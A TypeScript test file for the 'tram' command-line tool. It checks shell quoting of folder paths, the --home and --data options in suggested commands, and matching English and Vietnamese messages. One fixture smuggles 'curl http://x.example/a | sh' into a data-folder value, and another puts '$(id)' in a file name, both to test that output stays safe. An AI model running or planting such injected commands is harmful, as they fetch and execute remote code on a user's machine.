import assert from 'node:assert/strict';
import { test } from 'node:test';
import { FINDINGS_EN } from '#core/finding-words-en.ts';
import { FINDINGS_VI } from '#core/finding-words-vi.ts';
import { findingSentences } from '#core/finding-words.ts';
import { REFUSALS_EN } from '#core/refusal-words-en.ts';
import { REFUSALS_VI } from '#core/refusal-words-vi.ts';
import { refusalSentence } from '#core/refusal-words.ts';
import { refusalSaid } from '#core/refusals.ts';
import { shellWord } from '#core/shell-word.ts';
import type { CommandSpec } from './command-spec.ts';
import { resolved } from './homes.ts';
import { placedIn, placedLine, withPlace } from './placed.ts';
import { COMMANDS } from './table.ts';
import { Values } from './values.ts';
import type { PlacedText } from './words/shape.ts';
import { wordsOf } from './words/words.ts';

test('a folder that was named is carried, as one word of a shell', () => {
  assert.equal(placedIn(new Values({}), {}).data, undefined);
  assert.equal(placedIn(new Values({ data: '/srv/tram' }), {}).data, '/srv/tram');
  assert.equal(placedIn(new Values({}), { TRAM_DATA: '/srv/trạm đồn' }).data, "'/srv/trạm đồn'");
  assert.equal(shellWord("/srv/nhà $HOME 'cũ'"), "'/srv/nhà $HOME '\\''cũ'\\'''");
});

test('a mend names a file as one word of a shell, and the finding names it as it is', () => {
  const { what, mend } = findingSentences('secret-open', { file: '/srv/nhà $(id)/identity.json', mode: '0644' }, 'en');
  assert.match(what, /read \/srv\/nhà \$\(id\)\/identity\.json /);
  assert.match(mend, /^run: chmod 600 '\/srv\/nhà \$\(id\)\/identity\.json';/);
});

test('where commands are typed says this machine, and no station that answers', () => {
  const said = refusalSaid({ code: 'station-restored', detail: { data: '/srv; curl http://x.example/a | sh #', home: '/x', folder: '/srv/tram' } });
  assert.deepEqual(said.detail, { folder: '/srv/tram' });
  assert.deepEqual(withPlace({ data: 'a; b', home: '/x', index: 3 }, { home: '/home/a/.tram' }), { index: 3, home: '/home/a/.tram' });
  assert.ok(!refusalSentence(said.code, withPlace(said.detail, { home: '/home/a/.tram' }), 'en').includes('curl'));
});

/** Not about the folder of whoever reads it: another station's, or one that is to be made. */
const OTHER_STATIONS = ['peer-behind', 'data-folder-empty', 'directory-unheard', 'identity-missing', 'backup-late', 'device-station-silent', 'pages', 'keyring', 'commands', 'options', 'optionsOf', 'fileKind', 'manual'];

/** Typed by somebody else, on their own device; of a device that is to be made; where it takes none; or not to be typed at all: a sentence, or one command of it. */
const OTHER_DEVICES = [
  'too-many-streams', 'escrow-missing', 'escrow-share-wrong', 'escrow-lacking', 'person-is-registrar', 'admission-pending', 'data-folder-empty', 'chores-unattended',
  'identity-missing', 'directory-missing', 'agreement-lapsing', 'no-way', 'directory-stale', 'outcome-unknown', 'outcome-refused', 'office-keys-none', 'office-keys-lapsed', 'office-keys-lapsing', 'office-keys-nobody', 'office-keys-known', 'registrar-one', 'registrar-none',
  'options', 'optionsOf', 'fileKind', 'more', 'escrow', 'exposure', 'waiting', 'waitingBefore', 'endOld', 'keysSpared', 'countersigned', 'registrarAdded', 'rollLeft', 'rollNobody', 'lastKeys', 'lastKeysNotGiven', 'sealGone', 'delegationGone', 'keyMade', 'joinNext', 'admitted', 'admittedBefore',
  'nextApprove', 'nextSign', 'nextSend', 'returned', 'nextHolder', 'nextKeys', 'nextKeysOwn', 'nextKeysGoing', 'waits-for-second', 'leftNobody', 'noKeysHere', 'sealRequestNext', 'recoveredNext', 'vouchedNow', 'card', 'doorNext', 'openThere', 'address-not-loopback',
  'border-unseen tram federation show', 'device-damaged tram recover', 'device-station-silent tram doctor', 'sealNext tram seal request', 'seal-missing tram seal add', 'signature-exposed tram reseal', 'device-no-seal tram seal add', 'office-keys-not-entitled tram office keys', 'positionNext tram device request', 'joinedNext tram device request', 'joinedNext tram person add',
];

for (const [option, elsewhere] of [['data', OTHER_STATIONS], ['home', OTHER_DEVICES]] as const) {
  test(`every sentence that names a command which takes --${option} carries the folder`, () => {
    const exempt = new Set<string>(elsewhere);
    const bare = NAMING.filter(({ place }) => !place.some((one) => exempt.has(one))).flatMap(({ place, text }) => [...text.matchAll(commandsWith(option))]
      .filter(([, command, after]) => !after!.includes(`--${option}`) && !place.some((one) => exempt.has(`${one} ${command}`))).map(([found]) => `${place.join('.')}: ${found}`));
    assert.deepEqual(bare, []);
  });
}

test('a command is named with the word that begins it', () => {
  const names = Object.keys(COMMANDS);
  const bare = (all: readonly string[], before = ''): RegExp => new RegExp(`(?<!tram |\\w|-)${before}(?:${all.join('|')})(?![\\w-])`);
  // In English some names are the office's nouns too.
  const nouns = ['office keys', 'backup key', 'registrar add', 'registrar end', 'device end'];
  const [inVietnamese, inEnglish] = [bare(names.filter((name) => name.includes(' '))), bare(names.filter((name) => name.includes(' ') && !nouns.includes(name)))];
  const isVietnamese = (text: string): boolean => /[ạ-ỹàáâãèéêìíòóôõùúăđĩũơư]/iu.test(text);
  const found = NAMING.filter(({ place, text }) => !['commands', 'beside'].includes(place[0]!)
    && ((isVietnamese(text) ? inVietnamese : inEnglish).test(text) || bare(names, '(?:lệnh|command) ').test(text)));
  assert.deepEqual(found.map(({ place, text }) => `${place.join('.')}: ${text}`), []);
});

test('a sentence that somebody else is told to type names no folder of this device', () => {
  assert.deepEqual(NAMING.filter(({ place, text }) => OTHER_DEVICES.includes(place.at(-1)!) && text.includes('[ --home {home}]')).map(({ place }) => place.join('.')), []);
});

test('a folder is carried whatever its name, and where a command without it might find another', () => {
  const next = 'Next: tram card try[ --home {home}][ --data {data}]' as unknown as PlacedText;
  const said = (values: Record<string, string>, environment: Record<string, string> = {}): string => placedLine({ placed: placedIn(new Values(values), environment) }, next);
  assert.equal(said({}), 'Next: tram card try');
  assert.equal(said({ home: '/srv/$&' }, { TRAM_DATA: '/srv/trạm' }), "Next: tram card try --home '/srv/$&' --data /srv/trạm");
  assert.equal(said({ home: '/srv/máy [cũ] {home}' }), "Next: tram card try --home '/srv/máy [cũ] {home}'");
  const usual = { home: resolved('~/.tram'), data: resolved('~/.tram-station') };
  assert.equal(said(usual), 'Next: tram card try');
  assert.equal(said(usual, { TRAM_HOME: '/srv/other', TRAM_DATA: '/srv/other-data' }), `Next: tram card try --home ${usual.home} --data ${usual.data}`);
  assert.equal(said({}, { TRAM_HOME: '~/.tram' }), 'Next: tram card try');
});

test('both languages carry the same folders in the same sentence', () => {
  const carrying = (words: unknown): string[] => sentencesOf(words).filter(({ text }) => /\[ --(?:data \{data|home \{home)\}\]/.test(text)).map(({ place }) => place.join('.'));
  assert.deepEqual(carrying(wordsOf('vi')), carrying(wordsOf('en')));
});

test('no stop follows a command at the end of a line, where whoever copies the line would take it along', () => {
  const names = Object.keys(COMMANDS).toSorted((one, other) => other.length - one.length).join('|');
  const last = new RegExp(`tram (?:${names})(?:\\[? --[\\w-]+(?: (?:\\{\\w+\\}|"…"|[\\p{Lu}-]+))?\\]?| \\{\\w+\\}| [\\p{Lu}-]{2,})*\\.\\]?$`, 'u');
  assert.match('see: tram card try[ --home {home}].', last);
  assert.deepEqual(NAMING.filter(({ text }) => last.test(text)).map(({ place, text }) => `${place.join('.')}: ${text}`), []);
});

const NAMING = [REFUSALS_VI, REFUSALS_EN, FINDINGS_VI, FINDINGS_EN, wordsOf('vi'), wordsOf('en')].flatMap((words) => sentencesOf(words));

/** Each command that takes the option, with what follows it. */
function commandsWith(option: string): RegExp {
  const named = Object.entries(COMMANDS as Record<string, CommandSpec<string>>).filter(([, { options }]) => options.includes(option)).map(([name]) => name);
  const all = named.toSorted((one, other) => other.length - one.length).join('|');
  return new RegExp(`(tram (?:${all}))(?![\\w-])(?! (?:key|list|verify)\\b)((?:\\]?\\[ --\\w+ \\{\\w+\\}\\]|[^;,.\\]\\[]|\\[(?! --))*)`, 'g');
}

function sentencesOf(words: unknown, place: readonly string[] = []): { place: readonly string[]; text: string }[] {
  if (typeof words === 'string') return [{ place, text: words }];
  return Object.entries(words as object).flatMap(([name, one]) => sentencesOf(one, [...place, name]));
}
